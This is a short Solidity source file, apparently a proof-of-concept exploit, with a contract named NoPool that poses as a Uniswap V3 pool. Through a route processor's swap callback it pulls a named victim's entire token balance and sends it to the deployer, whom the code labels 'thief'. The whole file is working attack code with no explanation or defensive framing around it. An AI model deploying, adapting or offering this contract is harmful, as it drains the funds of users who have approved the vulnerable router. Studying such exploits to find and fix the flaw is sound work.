// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface ICallback {
    function uniswapV3SwapCallback(int256 d0, int256 d1, bytes calldata data) external;
}

interface IProcessor {
    function processRoute(address pool, bool zeroForOne, address tokenIn, uint256 amount, address to) external;
}

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

/// Asks to be paid by others.
contract NoPool {
    address private immutable thief = msg.sender;
    address private token;
    address private victim;

    function steal(IProcessor processor, address token_, address victim_) external {
        (token, victim) = (token_, victim_);
        processor.processRoute(address(this), true, token_, 1, thief);
    }

    function swap(address, bool, int256, bytes calldata) external returns (int256, int256) {
        uint256 all = IToken(token).balanceOf(victim);
        ICallback(msg.sender).uniswapV3SwapCallback(int256(all), 0, abi.encode(token, victim));
        IToken(token).transfer(thief, all);
        return (0, 0);
    }
}
